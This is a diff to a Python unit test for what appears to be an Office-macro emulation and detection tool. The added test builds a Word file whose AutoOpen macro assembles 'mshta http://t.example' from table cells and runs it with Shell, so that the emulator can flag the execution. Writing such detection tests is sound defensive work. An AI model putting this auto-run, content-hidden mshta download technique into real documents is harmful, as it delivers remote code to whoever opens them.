@@ -12,6 +12,7 @@ from gateway.model import Verdict
 from tests.unit.emulation.judging import BUDGET, expect_stopped, ran, verdict_of
 from tools.corpus.compound import Tree, compound_file
 from tools.corpus.detections import office_files
+from tools.corpus.ooxml import WORD_NS, XML
 from tools.corpus.vba import Module, vba_project_tree
 from tools.corpus.xlsb import BinarySheet, xlsb
 
@@ -48,6 +49,30 @@ def test_a_template_of_a_bare_public_address_is_malicious(
     office: ScriptEnvironment, address: str, verdict: Verdict
 ) -> None:
     assert verdict_of(_run(office, office_files.docx_template(address), "docx")) is verdict
+
+
+@pytest.mark.parametrize(
+    "cells",
+    [
+        "ActiveDocument.Tables(1).Range.Cells",
+        "ActiveDocument.Tables(1).Rows(1).Cells",
+    ],
+)
+def test_words_in_cells_of_a_table(office: ScriptEnvironment, cells: str) -> None:
+    words = ("mshta ", "http://", "t.example")
+    row = "".join(
+        f'<w:tc><w:p><w:r><w:t xml:space="preserve">{word}</w:t></w:r></w:p></w:tc>'
+        for word in words
+    )
+    table = f"<w:tbl><w:tr>{row}</w:tr></w:tbl>"
+    body = f'{XML}<w:document xmlns:w="{WORD_NS}"><w:body>{table}</w:body></w:document>'
+    macro = (
+        f"Sub AutoOpen()\nDim c As Cell\nFor Each c In {cells}\n"
+        "s = s & Left(c.Range.Text, Len(c.Range.Text) - 2)\nNext\nShell s\nEnd Sub\n"
+    )
+    data = office_files.docm(macro, extra={"word/document.xml": body.encode()})
+    result = _run(office, data)
+    assert "".join(words) in [b.arguments[0] for b in result.behaviours if b.action == "execute"]
 
 
 _ASKING: dict[str, str] = {
